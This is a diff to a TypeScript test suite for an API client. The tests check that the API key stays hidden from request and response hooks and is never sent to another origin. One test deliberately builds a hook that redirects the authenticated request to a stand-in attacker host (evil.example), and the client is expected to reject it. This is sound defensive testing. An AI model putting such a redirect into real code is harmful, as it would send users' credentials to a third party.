@@ -4,6 +4,7 @@ import {
   ApiError,
   type AuthProvider,
   type ClientOptions,
+  type Hooks,
   type SocialSearchError,
 } from '../../../src/index.ts'
 import { settle, useVirtualTime } from '../../support/clock.ts'
@@ -334,28 +335,30 @@ describe('the key', () => {
     expect(JSON.stringify(found)).not.toContain(apiKey)
   })
 
-  it('is not seen by middleware, before or after sending', async () => {
-    service.script(ok())
+  it('is not seen by hooks, before or after sending', async () => {
+    service.script(ok(), unreachable())
     const seen: string[] = []
-    const client = makeClient({
-      middleware: [
-        async (request, next) => {
-          seen.push(inspect([...request.headers]))
-          const response = await next(request)
-          seen.push(inspect([...request.headers]), inspect(response, { depth: Infinity, showHidden: true }))
-          return response
-        },
-      ],
-    })
+    const see = (state: { request: Request }): void => {
+      seen.push(inspect(state, { depth: Infinity, showHidden: true, getters: true }))
+      seen.push(inspect([...state.request.headers]))
+    }
+    const hooks: Hooks = {
+      beforeRequest: [see],
+      afterResponse: [see],
+      beforeError: [(state) => (see(state), state.error)],
+    }
+    const client = makeClient({ hooks })
     await settle(client.microblog.search(query))
-    expect(bearers()).toEqual([`Bearer ${apiKey}`])
+    await settle(client.microblog.search(query))
+    expect(bearers()).toEqual([`Bearer ${apiKey}`, `Bearer ${apiKey}`])
+    expect(seen).toHaveLength(8)
     expect(seen.join()).not.toContain(apiKey)
   })
 
-  it('is not sent to another origin by a middleware', async () => {
+  it('is not sent to another origin by a hook', async () => {
     service.script(ok())
     const client = makeClient({
-      middleware: [(request, next) => next(new Request('https://evil.example/v1', request))],
+      hooks: { beforeRequest: [({ request }) => new Request('https://evil.example/v1', request)] },
     })
     const { error } = await settle(client.microblog.search(query))
     expect(error).toMatchObject({ name: 'ConfigurationError', charged: 'no' })
